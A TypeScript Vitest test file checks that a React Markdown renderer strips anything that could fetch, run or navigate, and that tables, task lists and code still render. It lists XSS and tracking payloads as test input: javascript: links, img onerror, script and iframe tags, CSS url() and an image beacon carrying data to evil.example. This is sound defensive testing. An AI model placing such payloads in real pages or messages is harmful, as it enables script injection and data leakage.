import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import "~/messages";
import { Markdown } from "./Markdown";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

test("nothing in Markdown can fetch, run or navigate", () => {
  const text = [
    "![track](https://evil.example/p.png?data=1)",
    "[click](javascript:alert(1)) [go](https://evil.example) https://evil.example/auto",
    "<img src=https://evil.example/x onerror=alert(1)><script>alert(1)</script><iframe src=//evil.example></iframe>",
    '<a href="https://evil.example" style="background:url(https://evil.example)">x</a>',
    "![r][ref]\n\n[ref]: https://evil.example/ref.png",
  ].join("\n\n");
  const page = new DOMParser().parseFromString(html(text), "text/html");
  expect(
    page.querySelectorAll("img, script, iframe, a, link, style, object, embed, video, audio, svg image"),
  ).toHaveLength(0);
  for (const element of page.querySelectorAll("*")) {
    for (const { name } of element.attributes) {
      expect(["href", "src", "srcset", "style", "action"].includes(name) || name.startsWith("on"), name).toBe(
        false,
      );
    }
  }
  // The addresses can be read, so that a person sees what was there.
  expect(page.body.textContent).toContain("https://evil.example/p.png?data=1");
  const links = [...page.querySelectorAll("button")];
  expect(links.map((link) => link.title)).toContain("javascript:alert(1)");
  expect(links.map((link) => link.getAttribute("aria-haspopup"))).toEqual(links.map(() => "dialog"));
});

test("tables, lists of tasks and code are shown", () => {
  const page = html("| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n\n`code`");
  for (const part of ["<table>", "<td>1</td>", 'type="checkbox"', "<code>code</code>"])
    expect(page).toContain(part);
});
